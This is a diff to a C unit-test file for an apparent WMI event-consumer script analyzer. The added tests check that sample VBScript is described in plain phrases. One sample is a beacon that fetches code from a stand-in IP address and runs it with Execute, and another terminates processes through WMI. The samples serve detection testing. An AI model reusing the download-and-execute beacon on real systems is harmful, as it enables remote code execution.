@@ -553,6 +553,44 @@ static void program_and_short_names(void **state)
 
 /* ---- bounds ---- */
 
+static bool does(const wh_payload *p, const char *phrase)
+{
+    for (size_t i = 0; i < wh_payload_behaviour_count(p); i++)
+        if (!strcmp(wh_payload_behaviour(p, i), phrase)) return true;
+    return false;
+}
+
+/* What a script does, in phrases (payload_script.c). */
+static void script_behaviour(void **state)
+{
+    (void)state;
+    // a KillProcess-style consumer: WMI, a query, terminate the trigger
+    wh_payload *p = run("Set l = CreateObject(\"WbemScripting.SWbemLocator\")\r\n"
+                        "Set s = l.ConnectServer(, \"root\\cimv2\")\r\n"
+                        "Set ps = s.ExecQuery(\"SELECT * FROM Win32_Process WHERE ProcessID = \" & TargetEvent.ProcessID)\r\n"
+                        "For Each o in ps\r\n o.Terminate()\r\nNext\r\n");
+    assert_true(does(p, "connects to WMI (root\\cimv2)"));
+    assert_true(does(p, "queries Win32_Process"));
+    assert_true(does(p, "terminates the process that set it off"));
+    assert_false(does(p, "downloads from the network"));
+    wh_payload_free(p);
+    // an hourly VBScript beacon: HTTP GET to its server, run what comes back
+    p = run("Set x = CreateObject(\"MSXML2.ServerXMLHTTP\")\r\nx.Open \"GET\", \"http://198.51.100.23/s.vbs\", False\r\n"
+            "x.Send\r\nExecute x.responseText\r\n");
+    assert_true(does(p, "makes HTTP GET requests to http://198.51.100.23/s.vbs"));
+    assert_true(does(p, "runs code it builds or downloads (Execute / eval / Invoke-Expression)"));
+    wh_payload_free(p);
+    // WScript.Shell starting a program: said with what it starts
+    p = run("Set s = CreateObject(\"WScript.Shell\")\r\ns.Run \"notepad.exe\", 0\r\n");
+    assert_true(does(p, "starts a program: notepad.exe"));
+    assert_false(does(p, "downloads from the network")); // WScript.Shell is no download
+    wh_payload_free(p);
+    // a plain command line does nothing a script would
+    p = run("C:\\Windows\\System32\\cmd.exe /c echo hi");
+    assert_int_equal(wh_payload_behaviour_count(p), 0);
+    wh_payload_free(p);
+}
+
 static void bound_depth(void **state)
 {
     (void)state;
@@ -726,6 +764,7 @@ int main(void)
         cmocka_unit_test(chained_layers),
         cmocka_unit_test(indicators),
         cmocka_unit_test(program_and_short_names),
+        cmocka_unit_test(script_behaviour),
         cmocka_unit_test(bound_depth),
         cmocka_unit_test(bound_bytes_and_time),
         cmocka_unit_test(bound_indicators),
